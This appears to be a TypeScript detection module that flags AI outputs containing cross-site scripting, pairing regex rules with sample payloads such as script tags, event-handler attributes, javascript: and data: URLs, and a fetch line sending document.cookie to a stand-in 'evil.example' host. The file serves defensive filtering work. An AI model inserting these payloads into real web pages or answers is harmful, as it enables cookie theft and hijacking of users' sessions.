import { type BaselineFamily } from '../baseline-family';

const scheme = String.raw`\s{0,3}["']?\s{0,5}(?:javascript|vbscript|livescript)\s{0,3}:`;

/** Answers that would run script in a page that shows them unescaped. */
export const crossSiteScripting: BaselineFamily = {
  family: 'cross-site-scripting',
  direction: 'output',
  rules: [
    [String.raw`<\s{0,3}/?\s{0,3}script[\s/>]`, '<script>alert(1)</script>'],
    [String.raw`\\u003c\s{0,3}/?script\b|\\x3c\s{0,3}/?script\b`, String.raw`\u003cscript\u003e`],
    [String.raw`<[a-z][^<>]{0,200}[\s/"']on[a-z]{3,20}\s{0,3}=\s{0,3}[^{\s]`, '<svg onload=alert(1)>'],
    [String.raw`(?:href|src|action|formaction|data|to|from|values)\s{0,3}=${scheme}`, '<a href="javascript:alert(1)">'],
    [String.raw`(?:\]|url)\(${scheme}`, '[open](javascript:alert(1))'],
    [
      String.raw`(?:\]\(|\b(?:src|href|data|action)\s{0,3}=)\s{0,3}["']?\s{0,3}data:(?:text/html|image/svg|application/x|text/xml)`,
      '<embed src="data:image/svg+xml;base64,aa">',
    ],
    [String.raw`<\s{0,3}(?:embed|object|applet|frameset)[\s/>]`, '<object data="x">'],
    [String.raw`<\s{0,3}iframe\b[^>]{0,200}(?:srcdoc|javascript:|data:)`, '<iframe srcdoc="x">'],
    [
      String.raw`<\s{0,3}form\b[^>]{0,150}\baction\s{0,3}=\s{0,3}["']?\s{0,3}(?:http|//)`,
      '<form action="https://evil.example/collect">',
    ],
    [String.raw`<\s{0,3}(?:button|input)\b[^>]{0,150}\bformaction\s{0,3}=`, '<button formaction=x>'],
    [String.raw`<\s{0,3}link\b[^>]{0,100}\brel\s{0,3}=\s{0,3}["']?import`, '<link rel=import href="x">'],
    [
      String.raw`<\s{0,3}meta\b[^>]{0,100}\bhttp-equiv\s{0,3}=\s{0,3}["']?refresh`,
      '<meta http-equiv="refresh" content="0">',
    ],
    [String.raw`<\s{0,3}base\s[^>]{0,60}\bhref\s{0,3}=`, '<base href="https://evil.example/">'],
    [
      String.raw`style\s{0,3}=[^>]{0,150}(?:expression\s{0,3}\(|-moz-binding|behavior\s{0,3}:)`,
      '<p style="width:expression(alert(1))">',
    ],
    [String.raw`(?:http|fetch)[^\n;]{0,100}document\.cookie`, "fetch('https://evil.example/'+document.cookie)"],
  ],
};
